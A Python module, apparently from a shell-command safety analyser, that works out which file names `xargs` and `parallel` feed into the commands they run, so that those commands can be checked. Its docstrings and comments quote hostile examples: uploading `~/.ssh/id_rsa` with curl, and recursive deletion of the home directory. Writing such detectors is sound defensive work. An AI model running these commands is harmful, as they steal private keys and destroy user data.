"""The names `xargs` and `parallel` put in the command they run, when the
analysis can know them: what `find` prints (as `{}` stands for its finds),
the static text of a pipe, a here-string or `-a <(echo ...)`, or what `pwd`
prints where the feeding pipeline runs (`cd ~ && pwd | xargs rm -rf`).

The command is then judged with those names in its argv, in place of `-I`'s
string or appended: `echo ~/.ssh/id_rsa | xargs -I{} curl -T {} URL` uploads
the key for every rule, not only for the delete rules.
"""

from __future__ import annotations

from redline.shell import find
from redline.shell.invocation import Invocation, command_name
from redline.shell.lazy_regex import lazy_regex
from redline.shell.model import DYNAMIC, Word

# More names than this stay unknown (each may be a long list of files).
MAX_NAMES = 8
_BLANKS = lazy_regex(r"[\s\x00]+")
_LINES = lazy_regex(r"[\n\x00]+")
_ARG_FILE = ("-a", "--arg-file")


def fed(
    name: str, argv: tuple[Word, ...], inner: tuple[Word, ...], feeder: Invocation | None,
    stdin: str | None, replace: str | None,
) -> tuple[tuple[Word, ...], str] | None:  # fmt: skip
    """`inner` with the fed names in it and the label of where they came
    from, or None when they are not known."""
    from_file, text = _arg_file(argv)
    if feeder is not None and feeder.name == "find" and not from_file:
        found = find.printed(feeder.argv)  # `find ~ | xargs rm -f`
        if found is None:
            return None
        return find.fed_words(inner, found, replace), find.PRINTED
    if not from_file:
        text = stdin if stdin is not None else _printed_here(feeder)
    if text is None or DYNAMIC in text:
        return None
    if name == "parallel" and replace is None and any("{}" in w.value for w in inner):
        replace = "{}"
    names = tuple(n for n in (_LINES if replace else _BLANKS).split(text) if n.strip())
    if not names or len(names) > MAX_NAMES:
        return None
    if len(names) > 1 and inner and _runs_code(inner[0]):
        # `xargs -n1 sh -c 'rm -rf "$0"'` runs once per name, each its own `$0`:
        # one command holding them all would show the script only the first.
        return None
    return find.fed_words(inner, names, replace), FED


# The label of the command `xargs` runs on names it was fed.
FED = "xargs input"


def _arg_file(argv: tuple[Word, ...]) -> tuple[bool, str | None]:
    """Whether names come from `-a FILE` rather than stdin, and their text
    when FILE is `<(...)` of static text."""
    for k, word in enumerate(argv[1:], 1):
        value = word.value
        if value == "--" or not value.startswith("-"):
            break
        if value in _ARG_FILE:
            return True, argv[k + 1].feeds if k + 1 < len(argv) else None
        if value.startswith("--arg-file=") or (value.startswith("-a") and len(value) > 2):
            return True, word.feeds
    return False, None


def _runs_code(program: Word) -> bool:
    """A shell, an interpreter or a wrapper: its arguments may be code or the
    code's own arguments."""
    from redline.shell.carriers import SHELLS, interpreter_family
    from redline.shell.wrappers import WRAPPERS

    name = command_name(program)
    return name in SHELLS or name in WRAPPERS or interpreter_family(name) is not None


def _printed_here(feeder: Invocation | None) -> str | None:
    """`pwd` prints the directory the analysis followed `cd` to."""
    if feeder is None or feeder.name != "pwd" or feeder.cwd is None:
        return None
    return feeder.cwd + "\n" if feeder.cwd.startswith(("/", "~")) else None
